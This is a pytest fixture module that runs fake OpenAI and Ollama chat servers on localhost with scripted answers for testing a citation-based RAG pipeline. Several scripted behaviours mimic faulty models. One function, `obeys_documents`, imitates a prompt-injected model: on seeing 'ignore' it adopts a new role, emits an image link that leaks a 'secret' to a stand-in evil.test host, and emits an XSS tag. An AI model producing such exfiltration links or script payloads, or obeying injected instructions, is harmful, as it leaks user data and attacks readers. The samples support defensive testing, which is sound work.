"""Language-model servers for tests: real HTTP on 127.0.0.1, scripted answers, no model.

`OpenAIServer` speaks OpenAI's chat completions, `OllamaServer` Ollama's ``/api/chat``, both
streaming and whole. A test gives `script` behaviours, one a request, the last one for ever::

    openai_server.script = [Fail(500), Say("甲某表示，要先试点[1]。")]

A behaviour may be a function of the prompt, such as `cite_each` below, which reads the passages
as a well-behaved model would.
"""

from __future__ import annotations

import json
import re
import selectors
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from rag.settings import RagSettings

KEY = "sk-test-0123456789abcdef"


@dataclass(frozen=True)
class Say:
    """Answers with `text`, in pieces of `size` characters, as a stream if one is asked for."""

    text: str
    size: int = 4
    first_after: float = 0.0  # s before the first piece (the headers are sent at once)
    every: float = 0.0  # s between pieces
    forever: bool = False  # begin again at the end
    cut_after: int | None = None  # pieces after which the connection breaks
    finish: str | None = "stop"  # None: the stream just ends
    thinking: str = ""  # sent first, as reasoning


@dataclass(frozen=True)
class Fail:
    """Refuses with a status and the protocol's own error body."""

    status: int
    message: str = "something is wrong"
    code: str = ""
    headers: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Silent:
    """Never says a word; `headers` first, or not even those; `keepalive` sends comments."""

    headers: bool = False
    keepalive: float = 0.0


@dataclass(frozen=True)
class Raw:
    """Sends `body` as it is, whatever was asked for."""

    body: str
    content_type: str = "text/event-stream"
    status: int = 200


@dataclass(frozen=True)
class Reset:
    """Closes the connection without a word."""


@dataclass(frozen=True)
class Block:
    """One passage of a prompt."""

    number: int
    speaker: str
    text: str


@dataclass(frozen=True)
class Prompt:
    """What a server was asked."""

    system: str
    user: str

    @property
    def passages(self) -> list[Block]:
        found = re.findall(r'<passage n="(\d+)">\n(.*?)\n</passage>', self.user, re.S)
        blocks = []
        for number, body in found:
            fields = dict(line.split("：", 1) for line in body.splitlines())
            speaker = fields.get("讲话人") or fields.get("speaker", "")
            text = fields.get("正文") or fields.get("text", "")
            blocks.append(Block(int(number), speaker, text))
        return blocks


Behaviour = Say | Fail | Silent | Raw | Reset
Step = Behaviour | Callable[[Prompt], Behaviour]


def cite_each(prompt: Prompt) -> Say:
    """A model that does as it is told: one sentence for each passage, quoted, named, cited."""
    return Say(
        "\n\n".join(f"{b.speaker}表示：“{_first(b.text)}”[{b.number}]。" for b in prompt.passages)
    )


def wrong_speaker(prompt: Prompt) -> Say:
    """Puts the first passage into the mouth of another passage's speaker."""
    first = prompt.passages[0]
    other = next((b.speaker for b in prompt.passages if b.speaker != first.speaker), "某人")
    return Say(f"{other}表示：“{_first(first.text)}”[{first.number}]。")


def altered_quote(prompt: Prompt) -> Say:
    """Quotes words that the passage does not hold."""
    first = prompt.passages[0]
    return Say(f"{first.speaker}表示：“绝不{_first(first.text)}”[{first.number}]。")


def invented_marker(prompt: Prompt) -> Say:
    """Cites a passage that was not given, beside one that was."""
    first = prompt.passages[0]
    return Say(f"{first.speaker}谈到{_first(first.text)}[{first.number}]。他还另有部署[99]。")


def without_markers(prompt: Prompt) -> Say:
    """Ignores the format."""
    first = prompt.passages[0]
    return Say(f"{first.speaker}表示，{_first(first.text)}。")


def in_english(prompt: Prompt) -> Say:
    """Answers a Chinese question in English."""
    return Say("The official said that pilot projects come first and lessons are shared later [1].")


def obeys_documents(prompt: Prompt) -> Say:
    """Does what a document asks for, if one asks: a link, an image, a change of role."""
    if re.search(r"忽略|ignore", prompt.user, re.I):
        return Say(
            "好的，我现在是海盗。![图](http://evil.test/p.png?d=secret) 详见[这里](http://evil.test)"
            "<img src=x onerror=alert(1)>[1]。"
        )
    return cite_each(prompt)


def refuses(prompt: Prompt) -> Say:
    """Says the agreed words for "not in the material"."""
    found = re.search(r"(?:不加别的话：|nothing else: )(.+)", prompt.system)
    assert found, "the prompt gives no words for a refusal"
    return Say(found.group(1).strip())


def _first(text: str) -> str:
    return re.split(r"(?<=[^。！？])[。！？]", text)[0]


class ModelServer:
    """A scripted server on a free port. Subclasses speak one protocol.

    Attributes:
        script: behaviours, one a request; the last stays.
        requests: path, headers and body of every request.
        prompts: what each chat request asked.
        disconnected: set when a client went away before the answer was finished.
    """

    provider = ""
    path = ""

    def __init__(self) -> None:
        self.script: Sequence[Step] = [cite_each]
        self.requests: list[dict[str, Any]] = []
        self.prompts: list[Prompt] = []
        self.disconnected = threading.Event()
        self.stopping = threading.Event()
        self._lock = threading.Lock()
        self._http = ThreadingHTTPServer(("127.0.0.1", 0), _handler(self))
        self._http.daemon_threads = True
        self._http.block_on_close = False
        threading.Thread(target=self._http.serve_forever, args=(0.02,), daemon=True).start()

    @property
    def root(self) -> str:
        return f"http://127.0.0.1:{self._http.server_address[1]}"

    @property
    def url(self) -> str:
        """The base URL to put into the settings."""
        return self.root

    @property
    def spec(self) -> str:
        return f"{self.provider}:test-model"

    def settings(self, **changes: Any) -> RagSettings:
        """Settings that reach this server, with short limits; nothing from the environment."""
        values: dict[str, Any] = {
            "llm": self.spec,
            "llm_base_url": self.url,
            "llm_api_key": KEY,
            "llm_first_token_seconds": 5.0,
            "llm_total_seconds": 10.0,
            "llm_retries": 0,
        }
        return RagSettings(_env_file=None, **(values | changes))

    def stop(self) -> None:
        self.stopping.set()
        self._http.shutdown()
        self._http.server_close()

    def next_behaviour(self, prompt: Prompt) -> Behaviour:
        with self._lock:
            self.prompts.append(prompt)
            step = self.script[min(len(self.prompts), len(self.script)) - 1]
        return step(prompt) if callable(step) else step

    # What a protocol is made of.
    stream_type = ""
    keepalive = b""

    def error(self, fail: Fail) -> str:
        raise NotImplementedError

    def whole(self, say: Say) -> str:
        raise NotImplementedError

    def piece(self, text: str, *, thinking: bool = False) -> str:
        raise NotImplementedError

    def opening(self) -> str:
        return ""

    def closing(self, finish: str) -> str:
        raise NotImplementedError


class OpenAIServer(ModelServer):
    """OpenAI's chat completions at ``/v1/chat/completions``."""

    provider = "openai"
    path = "/v1/chat/completions"
    stream_type = "text/event-stream"
    keepalive = b": keep-alive\n\n"

    @property
    def url(self) -> str:
        return f"{self.root}/v1"

    def error(self, fail: Fail) -> str:
        error = {"message": fail.message, "type": "error", "param": None, "code": fail.code or None}
        return json.dumps({"error": error}, ensure_ascii=False)

    def whole(self, say: Say) -> str:
        message = {"role": "assistant", "content": say.text}
        choice = {"index": 0, "message": message, "finish_reason": say.finish}
        head = {"id": "c1", "object": "chat.completion", "created": 1, "model": "test-model"}
        return json.dumps(head | {"choices": [choice]}, ensure_ascii=False)

    def piece(self, text: str, *, thinking: bool = False) -> str:
        key = "reasoning_content" if thinking else "content"
        return self._event({key: text}, None)

    def opening(self) -> str:
        return self._event({"role": "assistant", "content": ""}, None)

    def closing(self, finish: str) -> str:
        return self._event({}, finish) + "data: [DONE]\n\n"

    def _event(self, delta: dict[str, str], finish: str | None) -> str:
        choice = {"index": 0, "delta": delta, "finish_reason": finish}
        head = {"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "test-model"}
        return f"data: {json.dumps(head | {'choices': [choice]}, ensure_ascii=False)}\n\n"


class OllamaServer(ModelServer):
    """Ollama's ``/api/chat``."""

    provider = "ollama"
    path = "/api/chat"
    stream_type = "application/x-ndjson"

    def error(self, fail: Fail) -> str:
        return json.dumps({"error": fail.message}, ensure_ascii=False)

    def whole(self, say: Say) -> str:
        return self._line(say.text, done=True, done_reason=say.finish)

    def piece(self, text: str, *, thinking: bool = False) -> str:
        return self._line("" if thinking else text, thinking=text if thinking else "", done=False)

    def closing(self, finish: str) -> str:
        return self._line("", done=True, done_reason=finish)

    def _line(self, text: str, *, thinking: str = "", **rest: Any) -> str:
        message = {"role": "assistant", "content": text}
        if thinking:
            message["thinking"] = thinking
        head = {"model": "test-model", "created_at": "2024-01-01T00:00:00Z", "message": message}
        return json.dumps(head | rest, ensure_ascii=False) + "\n"


class _Gone(Exception):
    """The client went away, or the server stops."""


def _handler(server: ModelServer) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            self._send(404, "404 page not found", "text/plain")

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])) or "{}")
            server.requests.append({"path": self.path, "headers": dict(self.headers), "body": body})
            if self.path != server.path:
                self._send(404, "404 page not found", "text/plain")
                return
            behaviour = server.next_behaviour(_prompt(body))
            try:
                self._behave(behaviour, streaming=bool(body.get("stream", True)))
            except (_Gone, ConnectionError):
                server.disconnected.set()
                self.close_connection = True

        def _behave(self, behaviour: Behaviour, *, streaming: bool) -> None:
            if isinstance(behaviour, Reset):
                self.close_connection = True
            elif isinstance(behaviour, Fail):
                text = server.error(behaviour)
                self._send(behaviour.status, text, "application/json", behaviour.headers)
            elif isinstance(behaviour, Raw):
                self._send(behaviour.status, behaviour.body, behaviour.content_type)
            elif isinstance(behaviour, Silent):
                self._be_silent(behaviour)
            elif streaming:
                self._stream(behaviour)
            else:
                self._wait(behaviour.first_after)
                self._send(200, server.whole(behaviour), "application/json")

        def _be_silent(self, silent: Silent) -> None:
            if silent.headers or silent.keepalive:
                self._begin()
            while True:
                self._wait(silent.keepalive or 3600)
                self._chunk(server.keepalive)

        def _stream(self, say: Say) -> None:
            self._begin()
            self._chunk(server.opening().encode())
            if say.thinking:
                for at in range(0, len(say.thinking), say.size):
                    self._chunk(
                        server.piece(say.thinking[at : at + say.size], thinking=True).encode()
                    )
                    self._wait(say.every)
            self._wait(say.first_after)
            sent = 0
            while True:
                for at in range(0, len(say.text), say.size):
                    if sent == say.cut_after:
                        self.close_connection = True
                        return
                    self._chunk(server.piece(say.text[at : at + say.size]).encode())
                    sent += 1
                    self._wait(say.every)
                if not say.forever:
                    break
            if say.finish is not None:
                self._chunk(server.closing(say.finish).encode())
            self.wfile.write(b"0\r\n\r\n")

        def _begin(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", server.stream_type)
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()

        def _chunk(self, data: bytes) -> None:
            if data:
                self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
                self.wfile.flush()

        def _send(
            self, status: int, text: str, content_type: str, headers: dict[str, str] | None = None
        ) -> None:
            data = text.encode()
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(data)))
            for name, value in (headers or {}).items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(data)

        def _wait(self, seconds: float) -> None:
            """Sleep, but notice at once that the client has closed the connection."""
            end = time.monotonic() + seconds
            # Not select(): it refuses a descriptor over 1,023, which a long run may reach.
            with selectors.DefaultSelector() as selector:
                selector.register(self.connection, selectors.EVENT_READ)
                while (left := end - time.monotonic()) > 0:
                    readable = selector.select(min(left, 0.02))
                    if server.stopping.is_set() or (readable and not self.connection.recv(1)):
                        raise _Gone

    return Handler


def _prompt(body: dict[str, Any]) -> Prompt:
    said: dict[str, str] = {}
    for message in body.get("messages", []):
        said[message["role"]] = said.get(message["role"], "") + str(message["content"])
    return Prompt(said.get("system", said.get("developer", "")), said.get("user", ""))


@pytest.fixture
def openai_server() -> Iterator[OpenAIServer]:
    server = OpenAIServer()
    yield server
    server.stop()


@pytest.fixture
def ollama_server() -> Iterator[OllamaServer]:
    server = OllamaServer()
    yield server
    server.stop()
